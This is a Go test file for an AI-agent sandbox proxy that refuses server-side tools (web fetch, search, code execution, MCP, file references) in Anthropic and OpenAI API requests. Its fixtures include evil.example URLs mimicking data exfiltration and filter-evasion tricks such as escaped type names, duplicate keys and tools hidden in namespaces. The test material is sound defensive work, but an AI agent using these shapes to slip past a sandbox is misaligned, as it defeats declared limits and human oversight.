package model

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/cordon-project/cordon/internal/crossing"
)

// Server-side tools would make the provider fetch, search, execute or read
// account data on the agent's behalf: a route out of the sandbox nobody
// declared. Each shape is refused as the provider's own permission error
// and never reaches the upstream.
func TestServerSideToolsRefused(t *testing.T) {
	const (
		msgs = "/v1/messages"
		chat = "/v1/chat/completions"
		resp = "/v1/responses"
	)
	anth := func(extra string) string {
		return `{"model":"claude-x","max_tokens":100,` + extra + `,"messages":[{"role":"user","content":"hi"}]}`
	}
	tool := func(t string) string {
		return anth(`"tools":[{"name":"ok","input_schema":{"type":"object"}},` + t + `]`)
	}
	rtool := func(t string) string {
		return `{"model":"gpt-5","input":"hi","tools":[{"type":"function","name":"ok","parameters":{}},` + t + `]}`
	}
	// ns is a namespace tool holding a client function and t.
	ns := func(t string) string {
		return `{"type":"namespace","name":"mcp__x","description":"d","tools":[{"type":"function","name":"f","parameters":{"type":"object"}},` + t + `]}`
	}
	tests := []struct {
		name, path, body string
		status           int
		inMessage        string // part of the message
	}{
		// Anthropic server tools.
		{"web_fetch", msgs, tool(`{"type":"web_fetch_20250910","name":"web_fetch","max_uses":5}`), 403, `"web_fetch_20250910"`},
		{"web_search", msgs, tool(`{"type":"web_search_20250305","name":"web_search","allowed_domains":["evil.example"]}`), 403, `"web_search_20250305"`},
		{"code_execution", msgs, tool(`{"type":"code_execution_20250825","name":"code_execution"}`), 403, `"code_execution_20250825"`},
		{"old code_execution", msgs, tool(`{"type":"code_execution_20250522","name":"code_execution"}`), 403, "code_execution"},
		{"mcp toolset", msgs, tool(`{"type":"mcp_toolset","mcp_server_name":"x"}`), 403, `"mcp_toolset"`},
		{"tool search", msgs, tool(`{"type":"tool_search_tool_regex_20251119","name":"tool_search_tool_regex"}`), 403, "tool_search"},
		{"unknown future tool", msgs, tool(`{"type":"web_browse_20270101","name":"b"}`), 403, "web_browse"},
		{"escaped type", msgs, tool(`{"type":"web_\u0066etch_20250910","name":"web_fetch"}`), 403, `"web_fetch_20250910"`},
		{"count_tokens web_search", "/v1/messages/count_tokens", `{"model":"claude-x","tools":[{"type":"web_search_20250305","name":"web_search"}],"messages":[]}`, 403, "web_search"},
		{"mcp_servers", msgs, anth(`"mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}]`), 403, "MCP"},
		{"container skills", msgs, anth(`"container":{"skills":[{"type":"anthropic","skill_id":"pptx","version":"latest"}]}`), 403, `"container"`},
		{"container id", msgs, anth(`"container":"container_011CQ"`), 403, `"container"`},
		{"container_upload", msgs, `{"model":"claude-x","max_tokens":10,"messages":[{"role":"user","content":[{"type":"container_upload","file_id":"file_011"}]}]}`, 403, "file_id"},
		{"file_id in a text block", msgs, `{"model":"claude-x","max_tokens":10,"messages":[{"role":"user","content":[{"type":"text","text":"x","file_id":"file_011"}]}]}`, 403, "file_id"},
		{"duplicate tool type", msgs, tool(`{"type":"custom","type":"web_fetch_20250910","name":"x"}`), 400, "duplicate"},
		{"duplicate tools", msgs, `{"model":"claude-x","tools":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, 400, "duplicate"},
		{"tool type not a string", msgs, tool(`{"type":["custom"],"name":"x"}`), 400, "type"},
		{"tool not an object", msgs, anth(`"tools":["web_search"]`), 400, "tools"},

		// OpenAI Chat Completions.
		{"chat web_search_options", chat, `{"model":"gpt-4o","web_search_options":{},"messages":[{"role":"user","content":"hi"}]}`, 403, `"web_search_options"`},
		{"chat web_search_options with location", chat, `{"model":"gpt-4o","web_search_options":{"search_context_size":"high","user_location":{"type":"approximate"}},"messages":[]}`, 403, "web_search_options"},
		{"chat hosted tool", chat, `{"model":"gpt-4o","tools":[{"type":"web_search"}],"messages":[]}`, 403, `"web_search"`},
		{"chat tool without type", chat, `{"model":"gpt-4o","tools":[{"function":{"name":"f"}}],"messages":[]}`, 403, "(none)"},
		{"chat file_id", chat, `{"model":"gpt-4o","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-abc"}}]}]}`, 403, "file references"},

		// OpenAI Responses.
		{"responses web_search", resp, rtool(`{"type":"web_search"}`), 403, `"web_search"`},
		{"responses web_search_preview", resp, rtool(`{"type":"web_search_preview","search_context_size":"low"}`), 403, `"web_search_preview"`},
		{"responses web_search_preview dated", resp, rtool(`{"type":"web_search_preview_2025_03_11"}`), 403, "web_search_preview_2025_03_11"},
		{"responses mcp connector", resp, rtool(`{"type":"mcp","server_label":"gmail","connector_id":"connector_gmail","authorization":"x"}`), 403, `"mcp"`},
		{"responses mcp server_url", resp, rtool(`{"type":"mcp","server_label":"x","server_url":"https://evil.example/mcp"}`), 403, "MCP"},
		{"responses file_search", resp, rtool(`{"type":"file_search","vector_store_ids":["vs_1"]}`), 403, `"file_search"`},
		{"responses code_interpreter", resp, rtool(`{"type":"code_interpreter","container":{"type":"auto","file_ids":["file-1"]}}`), 403, "code_interpreter"},
		{"responses code_interpreter no files", resp, rtool(`{"type":"code_interpreter","container":{"type":"auto"}}`), 403, `"code_interpreter"`},
		{"responses hosted tool_choice", resp, `{"model":"gpt-5","input":"hi","tool_choice":{"type":"web_search_preview"}}`, 403, "web_search_preview"},
		{"responses previous_response_id", resp, `{"model":"gpt-5","input":"hi","previous_response_id":"resp_123"}`, 403, `"previous_response_id"`},
		{"responses conversation id", resp, `{"model":"gpt-5","input":"hi","conversation":"conv_123"}`, 403, `"conversation"`},
		{"responses conversation object", resp, `{"model":"gpt-5","input":"hi","conversation":{"id":"conv_123"}}`, 403, `"conversation"`},
		{"responses stored prompt", resp, `{"model":"gpt-5","prompt":{"id":"pmpt_123","version":"2","variables":{"x":"y"}}}`, 403, `"prompt"`},
		{"responses item_reference", resp, `{"model":"gpt-5","input":[{"type":"item_reference","id":"msg_123"}]}`, 403, "item references"},
		{"responses screenshot by file", resp, `{"model":"gpt-5","input":[{"type":"computer_call_output","call_id":"c","output":{"type":"computer_screenshot","file_id":"file-1"}}]}`, 403, "file"},
		{"responses screenshot by url", resp, `{"model":"gpt-5","input":[{"type":"computer_call_output","call_id":"c","output":{"type":"computer_screenshot","image_url":"https://evil.example/?d=secret"}}]}`, 403, "remote URL"},
		{"responses file_ids", resp, `{"model":"gpt-5","input":"hi","text":{"file_ids":["file-1"]}}`, 403, "file_id"},

		// A Responses namespace groups client functions; a server-side
		// tool may not hide in one.
		{"namespace web_search", resp, rtool(ns(`{"type":"web_search"}`)), 403, `"web_search"`},
		{"namespace file_search", resp, rtool(ns(`{"type":"file_search","vector_store_ids":["vs_1"]}`)), 403, `"file_search"`},
		{"namespace mcp", resp, rtool(ns(`{"type":"mcp","server_label":"gmail","connector_id":"connector_gmail"}`)), 403, `"mcp"`},
		{"namespace code_interpreter", resp, rtool(ns(`{"type":"code_interpreter","container":{"type":"auto"}}`)), 403, `"code_interpreter"`},
		{"namespace computer_use", resp, rtool(ns(`{"type":"computer_use_preview","display_width":1024,"display_height":768,"environment":"linux"}`)), 403, `"computer_use_preview"`},
		{"namespace image_generation", resp, rtool(ns(`{"type":"image_generation"}`)), 403, `"image_generation"`},
		{"namespace shell with a hosted environment", resp, rtool(ns(`{"type":"function","name":"g","environment":{"type":"container_auto"}}`)), 403, "namespace"},
		{"namespace escaped type", resp, rtool(ns(`{"type":"web_\u0073earch"}`)), 403, `"web_search"`},
		{"namespace in a namespace", resp, rtool(ns(ns(`{"type":"function","name":"g"}`))), 403, `"namespace"`},
		{"namespace unknown type", resp, rtool(ns(`{"type":"browse_2027","name":"b"}`)), 403, `"browse_2027"`},
		{"namespace tool without type", resp, rtool(ns(`{"name":"g"}`)), 403, "(none)"},
		{"namespace tool with null type", resp, rtool(ns(`{"type":null,"name":"g"}`)), 403, "(none)"},
		{"namespace duplicate tools", resp, rtool(`{"type":"namespace","name":"n","tools":[{"type":"function","name":"f"}],"tools":[{"type":"web_search"}]}`), 400, "duplicate"},
		{"namespace escaped duplicate tools", resp, rtool(`{"type":"namespace","name":"n","tools":[{"type":"function","name":"f"}],"t\u006fols":[{"type":"web_search"}]}`), 400, "duplicate"},
		{"namespace tools not an array", resp, rtool(`{"type":"namespace","name":"n","tools":{"type":"web_search"}}`), 400, "array"},
		{"namespace tool not an object", resp, rtool(`{"type":"namespace","name":"n","tools":["web_search"]}`), 400, "object"},
		{"namespace without tools", resp, rtool(`{"type":"namespace","name":"n"}`), 400, "tools"},
		{"namespace in chat", chat, `{"model":"gpt-4o","tools":[{"type":"namespace","name":"n","tools":[{"type":"function","name":"f"}]}],"messages":[]}`, 403, `"namespace"`},
		{"namespace forced by tool_choice", resp, `{"model":"gpt-5","input":"hi","tool_choice":{"type":"namespace","name":"n"}}`, 403, `"namespace"`},
	}
	up, seen := fakeProvider(t, func(w http.ResponseWriter, r *http.Request, body []byte) {
		t.Errorf("upstream reached for a refused request: %s", body)
	})
	s := newSetup(t, up.URL, nil)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if !json.Valid([]byte(tt.body)) {
				t.Fatalf("test body is not JSON: %s", tt.body)
			}
			resp, out := s.post(t, tt.path, tt.body)
			if resp.StatusCode != tt.status {
				t.Errorf("status = %d, want %d (%s)", resp.StatusCode, tt.status, out)
			}
			e := decodeError(t, out)
			openai := !strings.HasPrefix(tt.path, "/v1/messages")
			switch {
			case openai && (e.Type != "" || e.Error.Code == nil):
				t.Errorf("not an OpenAI error: %s", out)
			case !openai && e.Type != "error":
				t.Errorf("not an Anthropic error: %s", out)
			}
			wantType := "permission_error"
			if tt.status == 400 {
				wantType = "invalid_request_error"
			}
			if e.Error.Type != wantType || !strings.Contains(e.Error.Message, tt.inMessage) {
				t.Errorf("error %s, want type %s and a message naming %s", out, wantType, tt.inMessage)
			}
			if tt.status == 403 && strings.HasPrefix(tt.inMessage, `"`) && !strings.Contains(e.Error.Message, "server-side tools that fetch, search, execute or reach account data are not allowed through cordon") {
				t.Errorf("message %q does not say why", e.Error.Message)
			}
			if rc := s.authority.lastReceipt(t); rc.Decision != crossing.Deny || rc.Reason != e.Error.Message {
				t.Errorf("receipt %q %q, want a deny with the message", rc.Decision, rc.Reason)
			}
		})
	}
	if seen.count() != 0 {
		t.Errorf("upstream saw %d requests", seen.count())
	}
	if n := s.authority.openReservations(); n != 0 {
		t.Errorf("%d reservations left open", n)
	}
}

// Client tools — executed by the agent, inside the sandbox — still pass,
// with the agent's bytes (Anthropic) or only the output cap added.
func TestClientToolsPass(t *testing.T) {
	tests := []struct{ name, path, body string }{
		{"anthropic client tools", "/v1/messages", `{"model":"claude-x","max_tokens":100,"tools":[` +
			`{"name":"Read","description":"read a file","input_schema":{"type":"object","properties":{"file_id":{"type":"string"},"path":{"type":"string"}},"required":["path"]}},` +
			`{"type":"custom","name":"c","input_schema":{"type":"object"}},` +
			`{"type":null,"name":"n","input_schema":{"type":"object"}},` +
			`{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"},` +
			`{"type":"computer_20250124","name":"computer","display_width_px":1024,"display_height_px":768},{"type":"memory_20250818","name":"memory"}],` +
			`"tool_choice":{"type":"auto"},"messages":[{"role":"user","content":"hi"},` +
			`{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"Read","input":{"file_id":"file_42","path":"/x"}}]},` +
			`{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":"ok"}]},` +
			`{"role":"assistant","content":[{"type":"server_tool_use","id":"s1","name":"web_search","input":{"query":"x"}},{"type":"web_search_tool_result","tool_use_id":"s1","content":[]}]}]}`},
		{"anthropic count_tokens", "/v1/messages/count_tokens", `{"model":"claude-x","tools":[{"name":"Bash","input_schema":{"type":"object"}}],"messages":[]}`},
		{"chat function and custom", "/v1/chat/completions", `{"model":"gpt-4o","max_tokens":50,"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":{"file_id":{"type":"string"}}}}},{"type":"custom","custom":{"name":"c"}}],` +
			`"tool_choice":{"type":"function","function":{"name":"f"}},"web_search_options":null,"messages":[{"role":"user","content":"hi"}]}`},
		{"responses client tools", "/v1/responses", `{"model":"gpt-5","max_output_tokens":50,"previous_response_id":null,"conversation":null,"prompt":null,"tools":[` +
			`{"type":"function","name":"f","parameters":{}},{"type":"custom","name":"c"},{"type":"local_shell"},` +
			`{"type":"computer_use_preview","display_width":1024,"display_height":768,"environment":"linux"},{"type":"apply_patch"},{"type":"shell"},{"type":"image_generation"}],` +
			`"tool_choice":{"type":"allowed_tools","mode":"auto","tools":[{"type":"function","name":"f"}]},"input":"hi"}`},
		{"responses namespace of client tools", "/v1/responses", `{"model":"gpt-5","max_output_tokens":50,"tools":[{"type":"function","name":"exec_command","parameters":{}},` +
			`{"type":"namespace","name":"mcp__codex_tui","description":"Codex's own tools","tools":[{"type":"function","name":"create_thread","strict":false,"parameters":{"type":"object","properties":{"file_id":{"type":"string"}}}},{"type":"custom","name":"c"}]},` +
			`{"type":"namespace","name":"empty","tools":[]}],"tool_choice":"auto","input":"hi"}`},
		{"responses forced image_generation", "/v1/responses", `{"model":"gpt-5","max_output_tokens":50,"tools":[{"type":"image_generation"}],"tool_choice":{"type":"image_generation"},"input":"hi"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			up, seen := fakeProvider(t, func(w http.ResponseWriter, r *http.Request, body []byte) {
				w.Header().Set("Content-Type", "application/json")
				w.Write([]byte(`{"usage":{"input_tokens":1,"output_tokens":1}}`))
			})
			s := newSetup(t, up.URL, nil)
			resp, out := s.post(t, tt.path, tt.body)
			if resp.StatusCode != 200 {
				t.Fatalf("status %d: %s", resp.StatusCode, out)
			}
			if seen.count() != 1 || string(seen.bodies[0]) != tt.body {
				t.Errorf("upstream got %q, want the agent's bytes", seen.bodies)
			}
		})
	}
}
